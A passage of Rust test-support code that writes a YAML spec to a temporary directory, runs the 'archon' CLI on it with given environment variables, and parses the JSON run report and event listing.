    std::fs::write(dir.path().join("spec.yaml"), yaml).expect("write");
    let path = dir.path().to_path_buf();
    let (run, shown) = tokio::task::spawn_blocking(move || {
        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let run_args: Vec<&str> = ["run", "spec.yaml", "--json"]
            .into_iter()
            .chain(args.iter().copied())
            .collect();
        let run = crate::support::archon_with(&path, &run_args, &env);
        let id = serde_json::from_str::<serde_json::Value>(&run.stdout)
            .ok()
            .and_then(|r| r["run_id"].as_str().map(str::to_owned))
            .unwrap_or_default();
        let shown = crate::support::archon(&path, &["show", &id, "--json", "--events"]);
        (run, shown)
    })
    .await
    .expect("archon ran");
    (dir, run, shown)
}

/// The JSON report of `archon run` of `yaml` with `env`.
async fn cli_report(
    yaml: &'static str,
    env: &'static [(&'static str, &'static str)],
) -> serde_json::Value {
    let env = env.iter().map(|(k, v)| (*k, (*v).to_owned())).collect();
    let (_dir, run, _) = cli_run(yaml.to_owned(), &[], env).await;
    serde_json::from_str(&run.stdout).expect("a JSON report")
}
